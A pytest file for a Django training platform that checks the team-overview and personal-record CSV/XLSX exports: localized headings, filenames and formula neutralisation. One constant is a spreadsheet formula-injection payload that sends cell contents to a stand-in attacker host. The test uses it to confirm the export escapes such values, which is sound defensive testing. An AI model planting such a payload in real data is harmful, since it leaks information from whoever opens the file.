"""The team overview and one person's learning records download as CSV and XLSX: the rows the
pages show, headings in the person's language, formulas neutralised, a name and a date."""

import csv
import datetime
import io
from urllib.parse import unquote

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation

from tests.courses.conftest import catalog, course  # noqa: F401  (shared fixtures)
from tests.factories import TeamFactory, make_person
from training.assignments import assignment_create
from training.models import RecordKind
from training.records import record_result
from training.roles import Role

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")  # Excel needs the byte-order mark
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def rows_of(response, fmt):
    return csv_rows(response) if fmt == "csv" else xlsx_rows(response)


def filename(response) -> str:
    header = response["Content-Disposition"]
    assert header.startswith("attachment;")
    return unquote(header.split("filename*=utf-8''")[-1]) if "*=" in header else header


@pytest.fixture
def team():
    return TeamFactory(name="售后服务一组")


@pytest.fixture
def manager(team):
    return make_person(Role.MANAGER, team=team)


@pytest.fixture
def manager_client(client, manager):
    client.force_login(manager)
    return client


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_team_overview_lists_each_member_and_training_in_chinese(
    manager_client,
    manager,
    team,
    course,  # noqa: F811 - the fixture imported above
    fmt,
):
    member = make_person(team=team, name=HYPERLINK)
    member.profile.employee_no = "E2001"
    member.profile.save()
    assignment_create(
        page=course, assigned_by=manager, people=[member], due_date=datetime.date(2026, 7, 1)
    )
    make_person(team=team, name="李雷")
    make_person(team=TeamFactory(name="别的组"), name="韩梅梅")  # not this manager's

    with translation.override("zh-hans"):
        response = manager_client.get(reverse("team_export", args=[fmt]))

    assert response.status_code == 200
    rows = rows_of(response, fmt)
    assert rows[0][:3] == ["团队", "工号", "姓名"]
    body = {row[2]: row for row in rows[1:]}
    assert set(body) == {"'" + HYPERLINK, "李雷", manager.get_full_name()}
    assert body["'" + HYPERLINK][1] == "E2001"
    assert body["'" + HYPERLINK][6:8] == ["平台操作", "2026-07-01"]
    assert body["李雷"][6] in ("", None)  # nothing assigned: one row, blank training
    today = timezone.localdate().isoformat()
    assert filename(response) == f"团队概览 售后服务一组 {today}.{fmt}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_persons_records_export_newest_first_with_their_name(manager_client, team, fmt):
    member = make_person(team=team, name="张晓雨")
    now = timezone.now()
    record_result(
        user=member,
        source=TeamFactory(name="s1"),
        kind=RecordKind.QUIZ,
        activity_title="-上岗考试",
        score=0.6,
        passed=False,
        completed_at=now - datetime.timedelta(days=2),
        details={
            "attempt": 1,
            "marks": 6.0,
            "max_marks": 10.0,
            "pass_mark": 80,
            "provisional": False,
        },
    )
    record_result(
        user=member,
        source=TeamFactory(name="s2"),
        kind=RecordKind.QUIZ,
        activity_title="-上岗考试",
        score=0.9,
        passed=True,
        completed_at=now - datetime.timedelta(days=1),
        details={
            "attempt": 2,
            "marks": 9.0,
            "max_marks": 10.0,
            "pass_mark": 80,
            "provisional": False,
        },
    )

    manager_client.cookies["django_language"] = "en"
    response = manager_client.get(reverse("team_member_export", args=[member.pk, fmt]))

    rows = rows_of(response, fmt)
    assert rows[0][:3] == ["When", "Kind", "Activity"]
    attempts = [str(row[4]) for row in rows[1:]]
    assert attempts == ["2", "1"]
    assert {row[2] for row in rows[1:]} == {"'-上岗考试"}
    assert [float(row[5]) for row in rows[1:]] == [90.0, 60.0]
    assert [row[6] for row in rows[1:]] == ["Yes", "No"]
    assert member.profile.employee_no in filename(response)
    assert "张晓雨" in filename(response)
    assert filename(response).endswith(f"{timezone.localdate().isoformat()}.{fmt}")


def test_learners_cannot_download_the_team_overview(client, team):
    client.force_login(make_person(team=team))
    assert client.get(reverse("team_export", args=["csv"])).status_code == 403
